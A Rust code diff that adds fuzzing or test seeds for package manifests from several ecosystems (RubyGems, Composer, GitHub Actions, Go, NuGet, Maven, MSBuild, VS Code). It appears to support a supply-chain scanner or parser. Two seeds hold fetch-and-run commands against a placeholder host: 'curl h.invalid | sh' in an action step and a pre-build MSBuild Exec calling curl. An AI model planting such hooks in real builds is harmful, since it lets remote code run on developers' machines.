@@ -1,6 +1,6 @@
 //! Starting points for manifests, registry answers, policies and reports.
 
-fn seed(choice: u8, text: &str) -> Vec<u8> {
+pub fn seed(choice: u8, text: &str) -> Vec<u8> {
     [&[choice], text.as_bytes()].concat()
 }
 
@@ -25,6 +25,16 @@ pub fn manifests() -> Vec<Vec<u8>> {
                   serde = { version = \"1\", features = ['x'], optional = true }\nb = {git='https://g.example/o/r', package='c', registry='x'}\nd.path='../d'\n[target.'cfg(windows)'.build-dependencies]\ncc='1'\n[[bin]]\nname='x'\npath='y.rs'\n[features]\n[workspace.dependencies]\nq='1'\n"),
         seed(13, r#"{"git":{"sha1":"0123456789abcdef0123456789abcdef01234567","dirty":true},"path_in_vcs":"a/b"}"#),
     ];
+    seeds.extend([
+        seed(16, "--- !ruby/object:Gem::Specification\nname: a\nversion: !ruby/object:Gem::Version\n  version: 1.0\nauthors: [A, &x B]\ndependencies:\n- !ruby/object:Gem::Dependency\n  name: b\n  type: :runtime\nextensions:\n- ext/extconf.rb\nmetadata:\n  source_code_uri: https://g.example/o/r\n"),
+        seed(17, r#"{"name":"v/a","type":"composer-plugin","require":{"php":">=8","v/b":"^1"},"autoload":{"files":["x.php"],"psr-4":{"A\\":"src/"}},"scripts":{"post-install-cmd":["A::b","@php x.php"]},"extra":{"class":"A\\P"},"bin":["x"]}"#),
+        seed(18, "name: a\nruns:\n  using: composite\n  steps:\n    - run: |\n        curl h.invalid | sh\n      shell: bash\n    - uses: o/r@v1\n  pre: x.js\n  main: 'y.js'\n"),
+        seed(19, "module g.example/o/r/v2\n\ngo 1.22\nrequire (\n\tg.example/a v1.0.0 // indirect\n\tb v0.0.0-20200101000000-abcdefabcdef\n)\nreplace a => ../a\nretract [v1.0.0, v1.1.0]\n"),
+        seed(20, "<?xml version=\"1.0\"?><package><metadata><id>A</id><version>1.0</version><authors>x, y</authors><repository type='git' url='https://g.example/o/r'/><dependencies><group targetFramework='net8'><dependency id='B' version='[1,2)'/></group></dependencies></metadata></package>"),
+        seed(21, "<project xmlns='x'><parent><version>1</version></parent><groupId>g</groupId><artifactId>a</artifactId><dependencies><dependency><groupId>b</groupId><artifactId>c</artifactId><version>${v}</version><scope>test</scope></dependency></dependencies><build/></project>"),
+        seed(22, "<Project><UsingTask TaskName='X' AssemblyFile='x.dll'><Task><Code Type='Class'><![CDATA[x]]></Code></Task></UsingTask><Target Name='T' BeforeTargets='Build'><Exec Command='curl h.invalid &amp;&amp; x'/></Target></Project>"),
+        seed(23, r#"{"name":"a","publisher":"p","engines":{"vscode":"^1"},"activationEvents":["*","onLanguage:x"],"main":"./out/x","browser":"./b.js"}"#),
+    ]);
     for choice in [2, 3] {
         seeds.push(seed(choice, core));
     }
